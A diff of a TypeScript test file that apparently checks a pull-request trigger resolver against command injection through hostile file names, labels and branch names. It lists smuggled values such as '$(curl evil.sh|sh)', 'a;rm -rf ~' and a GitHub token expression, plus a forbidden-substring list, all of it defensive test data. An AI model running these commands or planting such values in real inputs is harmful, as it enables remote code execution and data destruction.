@@ -29,7 +29,20 @@ import { bundledConfig } from '../core/nl/load-config.js';
 const SHA = 'c0ffee0000000000000000000000000000000000';
 const TOKEN_EXPR = '${{ github.token }}';
 /** Changed-file names an attacker can give a pull request. */
-const HOSTILE_FILES = ['$(id).ts', '`x`.ts', 'a;rm -rf ~.ts', '-rf.ts', 'evil\nname.ts', `${TOKEN_EXPR}.ts`, 'src/api/$(curl evil.sh|sh).ts', '--help.ts', "it's.ts", 'a|b.ts', 'a&b.ts', 'a>b.ts'];
+const HOSTILE_FILES = [
+  '$(id).ts',
+  '`x`.ts',
+  'a;rm -rf ~.ts',
+  '-rf.ts',
+  'evil\nname.ts',
+  `${TOKEN_EXPR}.ts`,
+  'src/api/$(curl evil.sh|sh).ts',
+  '--help.ts',
+  "it's.ts",
+  'a|b.ts',
+  'a&b.ts',
+  'a>b.ts',
+];
 /** Substrings none of which may appear in any output value. */
 const FORBIDDEN = ['$(', '`', ';', '${{', '\n', '\r', '|', '&', '>', '<', "'", 'rm -rf', 'curl'];
 
@@ -50,7 +63,10 @@ beforeAll(() => {
   const phase = join(hostile, '.planning', 'phases', '03-hostile');
   mkdirSync(phase, { recursive: true });
   // 03-01 declares every hostile name plus two safe ones; 03-02 declares `**` (matches everything).
-  writeFileSync(join(phase, '03-01-PLAN.md'), plan('03-01', 1, [...HOSTILE_FILES, 'src/ok.ts', 'src/**/*.{ts,tsx}'], ['engineering-senior-developer', '$(id)', '-rf', 'a;b', TOKEN_EXPR]));
+  writeFileSync(
+    join(phase, '03-01-PLAN.md'),
+    plan('03-01', 1, [...HOSTILE_FILES, 'src/ok.ts', 'src/**/*.{ts,tsx}'], ['engineering-senior-developer', '$(id)', '-rf', 'a;b', TOKEN_EXPR]),
+  );
   writeFileSync(join(phase, '03-02-PLAN.md'), plan('03-02', 2, ['**'], ['engineering-backend-architect']));
   writeFileSync(join(hostile, '.planning', 'STATE.md'), '# State\n- **Phase**: 3 of 3\n- **Status**: planned\n');
 });
@@ -149,7 +165,11 @@ describe('injection: labels and branch names', () => {
     const payload = pullRequestPayload('labeled', labels, { added: labels[0] });
     (payload['pull_request'] as Record<string, Record<string, unknown>>)['head']!['ref'] = headRef;
     const context: EventContext = { eventName: 'pull_request', action: 'labeled', payload, repo: { owner: 'o', repo: 'r' }, actor: headRef, sha: SHA };
-    return resolveTrigger(context, readInputs((name) => (name === 'label-prefix' ? 'legion:' : '')), () => validFlags(config));
+    return resolveTrigger(
+      context,
+      readInputs((name) => (name === 'label-prefix' ? 'legion:' : '')),
+      () => validFlags(config),
+    );
   }
 
   it.each([
